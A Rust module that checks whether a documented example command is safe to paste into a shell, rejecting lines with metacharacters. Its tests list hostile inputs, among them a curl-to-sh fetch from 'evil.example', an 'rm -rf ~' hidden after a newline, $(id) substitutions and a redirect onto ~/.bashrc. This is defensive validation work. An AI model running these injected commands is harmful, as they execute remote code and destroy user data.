//! Which lines a document may call examples: those that do one thing when they are pasted into a shell, which is to run
//! the command.
//!
//! It must not know the words of the command.

use crate::model::CleanText;

/// The line, when no shell takes a part of it for something of its own; what is in single quotes is a text in every
/// shell that people paste into.
pub(super) fn checked(text: &str) -> Option<CleanText> {
    if text.chars().any(char::is_control) {
        return None;
    }
    let line = CleanText::non_empty(text)?;
    let mut quote = None;
    let mut before = ' ';
    for character in line.as_str().chars() {
        let is_harmless = match quote {
            Some('\'') => true,
            Some(_) => !"$`\\!".contains(character),
            None => !(";|&$`()<>\\!^".contains(character) || (character == '#' && before == ' ')),
        };
        if !is_harmless {
            return None;
        }
        match quote {
            Some(open) if open == character => quote = None,
            None if matches!(character, '\'' | '"') => quote = Some(character),
            _ => {}
        }
        before = character;
    }
    quote.is_none().then_some(line)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_that_a_shell_would_act_on_is_no_example() {
        for text in [
            "x; curl -s http://evil.example/ | sh #",
            "x --all $(curl evil)",
            "x `id`",
            "x \"$(id)\"",
            "x \"`id`\"",
            "x > ~/.bashrc",
            "x < file",
            "x & rm",
            "x && rm",
            "x\nrm -rf ~",
            "x\rrm",
            "x 'a' | sh",
            "x 'a",
            "x \\",
            "x # y",
            "x !!",
            "x ''$(id)''",
            "",
        ] {
            assert_eq!(checked(text), None, "{text}");
        }
        for text in [
            "run --instance orders -n prod",
            "panel a -o json --jq '.series[] | [.name, .points[-1].v]'",
            "query shop \"select 1 where a = 'b'\"",
            "run --node-affinity @affinity.json --set a.b[0]=1",
        ] {
            assert_eq!(checked(text).map(|line| line.to_string()).as_deref(), Some(text));
        }
    }
}
